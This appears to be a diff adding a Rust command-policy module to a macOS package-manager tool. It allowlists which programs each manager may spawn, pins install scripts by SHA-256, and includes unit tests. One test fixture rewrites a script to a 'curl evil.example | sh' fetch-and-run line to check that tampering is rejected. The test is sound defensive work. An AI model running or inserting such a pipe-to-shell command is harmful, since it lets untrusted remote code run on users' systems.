@@ -0,0 +1,369 @@
+use std::io::Read;
+use std::path::{Path, PathBuf};
+use std::sync::{OnceLock, RwLock};
+
+use sha2::{Digest, Sha256};
+
+use super::{ExecutionResult, ProcessSpawnRequest, command_basename, manager_command_aliases};
+use crate::models::{CoreError, CoreErrorKind, ManagerId};
+
+static COMMAND_POLICY_MODE: OnceLock<RwLock<CommandPolicyMode>> = OnceLock::new();
+
+/// How `spawn_validated` treats programs outside a manager's allowlist.
+#[derive(Clone, Copy, Debug, Default, Eq, PartialEq)]
+pub enum CommandPolicyMode {
+    /// Log violations and spawn anyway.
+    #[default]
+    Audit,
+    /// Log violations and reject the spawn.
+    Enforce,
+}
+
+/// Escape hatch for the manager script installers, which run programs that
+/// are not part of any manager's allowlist.
+#[derive(Clone, Debug, Eq, PartialEq)]
+pub enum ScriptInstallerStep {
+    /// Fetch the official install script with `curl`.
+    Download,
+    /// Run the downloaded `script_path` (directly or as the first argument to
+    /// `sh`). `sha256` is the digest the adapter ships for that script; if the
+    /// file does not hash to it the spawn is rejected in every policy mode.
+    Run {
+        script_path: PathBuf,
+        sha256: String,
+    },
+    /// Run an installer binary the user pointed Helm at. It was not downloaded
+    /// by Helm, so there is no digest to pin; the spawn must execute `program`.
+    RunExisting { program: PathBuf },
+}
+
+pub fn set_command_policy_mode(mode: CommandPolicyMode) {
+    let slot = COMMAND_POLICY_MODE.get_or_init(|| RwLock::new(CommandPolicyMode::default()));
+    let mut guard = slot
+        .write()
+        .unwrap_or_else(|poisoned| poisoned.into_inner());
+    *guard = mode;
+}
+
+pub fn command_policy_mode() -> CommandPolicyMode {
+    COMMAND_POLICY_MODE
+        .get()
+        .map(|slot| *slot.read().unwrap_or_else(|poisoned| poisoned.into_inner()))
+        .unwrap_or_default()
+}
+
+/// Program basenames a manager may spawn outside script-installer steps: its
+/// command aliases plus the helpers its adapter shells out to.
+pub fn manager_allowed_programs(manager: ManagerId) -> Vec<&'static str> {
+    let helpers: &[&str] = match manager {
+        ManagerId::Asdf => &["git"],
+        // Trash disposal asks Finder to delete the app bundle.
+        ManagerId::HomebrewCask => &["osascript"],
+        ManagerId::NixDarwin => &["nix"],
+        ManagerId::DockerDesktop => &["brew", "defaults"],
+        ManagerId::Podman | ManagerId::Colima => &["brew"],
+        ManagerId::Sparkle | ManagerId::Setapp | ManagerId::ParallelsDesktop => &["defaults"],
+        ManagerId::SoftwareUpdate => &["sw_vers"],
+        ManagerId::XcodeCommandLineTools | ManagerId::Rosetta2 => &["pkgutil", "softwareupdate"],
+        ManagerId::FirmwareUpdates => &["softwareupdate"],
+        _ => &[],
+    };
+    let mut allowed =
+        Vec::with_capacity(manager_command_aliases(manager).len() + helpers.len() + 1);
+    allowed.extend_from_slice(manager_command_aliases(manager));
+    allowed.extend_from_slice(helpers);
+    // Executable discovery runs `which` on behalf of every manager.
+    allowed.push("which");
+    allowed
+}
+
+/// Check `request` against the manager allowlist, logging every violation and
+/// rejecting it when the policy mode is [`CommandPolicyMode::Enforce`].
+pub fn check_command_policy(request: &ProcessSpawnRequest) -> ExecutionResult<()> {
+    check_script_installer_digest(request)?;
+    let Some(violation) = command_policy_violation(request) else {
+        return Ok(());
+    };
+    let program = request.command.program.display().to_string();
+    match command_policy_mode() {
+        CommandPolicyMode::Audit => {
+            tracing::warn!(
+                manager = request.manager.as_str(),
+                program = program.as_str(),
+                reason = violation.as_str(),
+                "command policy violation (audit mode, spawning anyway)"
+            );
+            Ok(())
+        }
+        CommandPolicyMode::Enforce => {
+            tracing::warn!(
+                manager = request.manager.as_str(),
+                program = program.as_str(),
+                reason = violation.as_str(),
+                "command policy violation rejected"
+            );
+            Err(CoreError {
+                manager: Some(request.manager),
+                task: Some(request.task_type),
+                action: Some(request.action),
+                kind: CoreErrorKind::InvalidInput,
+                message: format!("command policy rejected '{program}': {violation}"),
+            })
+        }
+    }
+}
+
+/// Reject a script-installer run whose script does not hash to its pinned
+/// digest. Unlike allowlist violations this is never merely audited.
+fn check_script_installer_digest(request: &ProcessSpawnRequest) -> ExecutionResult<()> {
+    let Some(ScriptInstallerStep::Run {
+        script_path,
+        sha256,
+    }) = &request.script_installer
+    else {
+        return Ok(());
+    };
+    let mismatch = match sha256_file_hex(script_path) {
+        Ok(actual) if actual.eq_ignore_ascii_case(sha256.trim()) => return Ok(()),
+        Ok(actual) => format!(
+            "install script '{}' does not match its pinned sha256 (expected {sha256}, got {actual})",
+            script_path.display()
+        ),
+        Err(error) => format!(
+            "install script '{}' could not be checksummed: {error}",
+            script_path.display()
+        ),
+    };
+    tracing::warn!(
+        manager = request.manager.as_str(),
+        reason = mismatch.as_str(),
+        "script installer run rejected"
+    );
+    Err(CoreError {
+        manager: Some(request.manager),
+        task: Some(request.task_type),
+        action: Some(request.action),
+        kind: CoreErrorKind::InvalidInput,
+        message: mismatch,
+    })
+}
+
+fn sha256_file_hex(path: &Path) -> std::io::Result<String> {
+    let mut file = std::fs::File::open(path)?;
+    let mut hasher = Sha256::new();
+    let mut buffer = [0_u8; 8192];
+    loop {
+        let read = file.read(&mut buffer)?;
+        if read == 0 {
+            break;
+        }
+        hasher.update(&buffer[..read]);
+    }
+    Ok(format!("{:x}", hasher.finalize()))
+}
+
+fn command_policy_violation(request: &ProcessSpawnRequest) -> Option<String> {
+    let program = request.command.program.as_path();
+    match &request.script_installer {
+        None => {
+            let basename = command_basename(program)?;
+            // pip also runs through whichever versioned interpreter it reads.
+            let allowed = manager_allowed_programs(request.manager).contains(&basename)
+                || (request.manager == ManagerId::Pip
+                    && crate::adapters::pip::is_python_interpreter_name(basename));
+            (!allowed).then(|| {
+                format!(
+                    "'{basename}' is not allowlisted for manager '{}'",
+                    request.manager.as_str()
+                )
+            })
+        }
+        Some(ScriptInstallerStep::Download) => (command_basename(program) != Some("curl"))
+            .then(|| "script installer downloads may only run 'curl'".to_string()),
+        Some(ScriptInstallerStep::RunExisting { program: expected }) => (program != expected)
+            .then(|| format!("installer run does not execute '{}'", expected.display())),
+        Some(ScriptInstallerStep::Run { script_path, .. }) => {
+            let runs_script = program == script_path
+                || (command_basename(program) == Some("sh")
+                    && request
+                        .command
+                        .args
+                        .first()
+                        .is_some_and(|arg| Path::new(arg) == script_path));
+            (!runs_script).then(|| {
+                format!(
+                    "script installer run does not execute '{}'",
+                    script_path.display()
+                )
+            })
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::execution::CommandSpec;
+    use crate::models::{ManagerAction, TaskType};
+
+    fn request(manager: ManagerId, command: CommandSpec) -> ProcessSpawnRequest {
+        ProcessSpawnRequest::new(manager, TaskType::Install, ManagerAction::Install, command)
+    }
+
+    #[test]
+    fn manager_aliases_and_helpers_are_allowlisted() {
+        assert!(
+            command_policy_violation(&request(
+                ManagerId::Npm,
+                CommandSpec::new("/opt/homebrew/bin/npm")
+            ))
+            .is_none()
+        );
+        assert!(
+            command_policy_violation(&request(ManagerId::Asdf, CommandSpec::new("git"))).is_none()
+        );
+        assert!(
+            command_policy_violation(&request(
+                ManagerId::Mise,
+                CommandSpec::new("/usr/bin/which")
+            ))
+            .is_none()
+        );
+
+        let violation = command_policy_violation(&request(
+            ManagerId::Npm,
+            CommandSpec::new("/bin/sh").args(["-c", "true"]),
+        ))
+        .expect("shell should not be allowlisted for npm");
+        assert!(violation.contains("'sh' is not allowlisted for manager 'npm'"));
+    }
+
+    #[test]
+    fn pip_may_run_versioned_interpreters() {
+        let source = crate::adapters::pip_process::ProcessPipSource::new(std::sync::Arc::new(
+            crate::execution::tokio_process::TokioProcessExecutor,
+        ))
+        .with_interpreter(PathBuf::from("/opt/homebrew/bin/python3.12"));
+        let list = source.configure_request(crate::adapters::pip::pip_list_request(None));
+        assert_eq!(
+            list.command.program,
+            PathBuf::from("/opt/homebrew/bin/python3.12")
+        );
+        assert!(command_policy_violation(&list).is_none());
+        assert!(
+            command_policy_violation(&request(
+                ManagerId::Pip,
+                CommandSpec::new("/Users/me/.pyenv/versions/3.11.9/bin/python")
+            ))
+            .is_none()
+        );
+        assert!(
+            command_policy_violation(&request(
+                ManagerId::Npm,
+                CommandSpec::new("/opt/homebrew/bin/python3.12")
+            ))
+            .is_some()
+        );
+    }
+
+    #[test]
+    fn homebrew_cask_trash_disposal_is_allowlisted() {
+        let trash = crate::adapters::homebrew_cask::homebrew_cask_trash_app_request(
+            None,
+            Path::new("/Applications/Firefox.app"),
+        );
+        assert!(command_policy_violation(&trash).is_none());
+    }
+
+    #[test]
+    fn script_installer_steps_require_curl_or_the_named_script() {
+        let download = request(
+            ManagerId::Mise,
+            CommandSpec::new("curl").args(["-fsSL", "https://mise.run"]),
+        )
+        .script_installer(ScriptInstallerStep::Download);
+        assert!(command_policy_violation(&download).is_none());
+        assert!(
+            command_policy_violation(&request(ManagerId::Mise, CommandSpec::new("curl"))).is_some()
+        );
+
+        let step = ScriptInstallerStep::Run {
+            script_path: PathBuf::from("/tmp/helm-mise-install.sh"),
+            sha256: "0".repeat(64),
+        };
+        let run = request(
+            ManagerId::Mise,
+            CommandSpec::new("sh").arg("/tmp/helm-mise-install.sh"),
+        )
+        .script_installer(step.clone());
+        assert!(command_policy_violation(&run).is_none());
+
+        let direct = request(
+            ManagerId::Mise,
+            CommandSpec::new("/tmp/helm-mise-install.sh"),
+        )
+        .script_installer(step.clone());
+        assert!(command_policy_violation(&direct).is_none());
+
+        let other_script = request(ManagerId::Mise, CommandSpec::new("sh").arg("/tmp/other.sh"))
+            .script_installer(step);
+        assert!(command_policy_violation(&other_script).is_some());
+    }
+
+    fn temp_script(name: &str, contents: &[u8]) -> PathBuf {
+        let nanos = std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .expect("system clock before unix epoch")
+            .as_nanos();
+        let path = std::env::temp_dir().join(format!("helm-command-policy-{name}-{nanos}.sh"));
+        std::fs::write(&path, contents).expect("failed to write temp script");
+        path
+    }
+
+    #[test]
+    fn script_installer_run_is_rejected_when_the_script_does_not_match_its_pinned_digest() {
+        let contents = b"#!/bin/sh\necho install\n";
+        let pinned = format!("{:x}", Sha256::digest(contents));
+        let script = temp_script("digest", contents);
+        let run = |sha256: &str| {
+            request(
+                ManagerId::Mise,
+                CommandSpec::new("sh").arg(script.to_string_lossy().to_string()),
+            )
+            .script_installer(ScriptInstallerStep::Run {
+                script_path: script.clone(),
+                sha256: sha256.to_string(),
+            })
+        };
+
+        assert!(check_command_policy(&run(&pinned)).is_ok());
+
+        std::fs::write(&script, b"#!/bin/sh\ncurl evil.example | sh\n")
+            .expect("failed to rewrite temp script");
+        let error = check_command_policy(&run(&pinned))
+            .expect_err("a script that no longer matches its pin must be rejected");
+        assert_eq!(error.kind, CoreErrorKind::InvalidInput);
+        assert!(error.message.contains("does not match its pinned sha256"));
+
+        let _ = std::fs::remove_file(&script);
+        let error =
+            check_command_policy(&run(&pinned)).expect_err("a missing script must be rejected");
+        assert!(error.message.contains("could not be checksummed"));
+    }
+
+    #[test]
+    fn existing_installer_runs_must_execute_the_named_program() {
+        let step = ScriptInstallerStep::RunExisting {
+            program: PathBuf::from("/Users/me/Downloads/rustup-init"),
+        };
+        let run = request(
+            ManagerId::Rustup,
+            CommandSpec::new("/Users/me/Downloads/rustup-init").arg("-y"),
+        )
+        .script_installer(step.clone());
+        assert!(command_policy_violation(&run).is_none());
+
+        let other = request(ManagerId::Rustup, CommandSpec::new("/bin/sh")).script_installer(step);
+        assert!(command_policy_violation(&other).is_some());
+    }
+}